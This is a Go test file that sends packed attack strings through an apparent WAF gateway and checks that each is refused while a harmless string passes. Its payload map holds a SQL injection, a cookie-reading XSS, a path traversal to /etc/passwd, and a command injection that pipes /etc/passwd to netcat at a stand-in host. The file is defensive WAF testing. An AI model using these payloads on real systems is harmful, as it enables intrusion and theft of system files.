package testenv

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// packedAttacks are attacks that no WAF misses as they are.
var packedAttacks = map[string]string{
	"sqli": `1' UNION SELECT username, password FROM users-- `,
	"xss":  `<script>alert(document.cookie)</script>`,
	"lfi":  `../../../../../../etc/passwd`,
	"rce":  `; cat /etc/passwd | nc 192.0.2.1 4444`,
}

// harmless is packed in the same ways: what is refused with it says nothing about attacks.
const harmless = `tea and biscuits`

// TestPackings packs every attack in every way (attack_packings_*_test.go) and sends it through the gateway at
// paranoia 1. Each must be refused; those that are not stand in rules/README.md with the reason. The same packing of a
// harmless text must be let pass, unless the packing itself is refused.
func TestPackings(t *testing.T) {
	t.Parallel()
	var stages []stage
	add := func(id, target string, payload string, p packing) {
		raw, err := p.pack(payload)
		if err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		stages = append(stages, stage{ID: id, Desc: target, Input: stageInput{EncodedRequest: base64.StdEncoding.EncodeToString(raw)}})
	}
	all := packings()
	for _, p := range all {
		add(p.name+" harmless", "", harmless, p)
		for _, name := range []string{"sqli", "xss", "lfi", "rce"} {
			add(p.name+" "+name, name, packedAttacks[name], p)
		}
	}
	g := startGateway(t, attackGateway(startReflector(t)))
	results := crsRun(t, g, stages)
	if err := g.stop(); err != nil {
		t.Fatal(err)
	}
	crsLogs(t, g, results)

	explained := packingsExplained(t)
	stopped, count := 0, 0
	for i, s := range stages {
		r := results[i]
		passed := r.answer != nil && r.answer.Status == http.StatusOK
		if s.Desc == "" {
			if p := all[i/(1+len(packedAttacks))]; passed == p.refused {
				t.Errorf("%s: passed %v, and the packing itself is refused: %v (rules %v, %v)", s.ID, passed, p.refused, r.rules, r.line["reason"])
			}
			continue
		}
		count++
		switch {
		case !passed && explained[s.ID]:
			t.Errorf("%s is refused, and rules/README.md explains why it passes", s.ID)
		case passed && !explained[s.ID]:
			t.Errorf("%s passes, unexplained (rules %v)", s.ID, r.rules)
		case passed:
			t.Logf("%s passes, as explained", s.ID)
		}
		if !passed {
			stopped++
		}
		delete(explained, s.ID)
	}
	for id := range explained {
		t.Errorf("rules/README.md explains %s, which is no packing", id)
	}
	t.Logf("%d of %d packed attacks are refused", stopped, count)
}

// packingsExplained reads the table of rules/README.md: which packed attacks pass.
func packingsExplained(t *testing.T) map[string]bool {
	t.Helper()
	content, err := os.ReadFile(filepath.Join(root, "rules", "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, table, ok := strings.Cut(string(content), "\n| packing | attacks | why it passes |\n")
	if !ok {
		t.Fatal("rules/README.md has no table of packings")
	}
	explained := map[string]bool{}
	for line := range strings.Lines(table) {
		cells := strings.Split(line, "|")
		if len(cells) != 5 {
			break
		}
		for attack := range strings.FieldsSeq(strings.ReplaceAll(cells[2], "-", "")) {
			explained[fmt.Sprintf("%s %s", strings.Trim(cells[1], " "), attack)] = true
		}
	}
	return explained
}
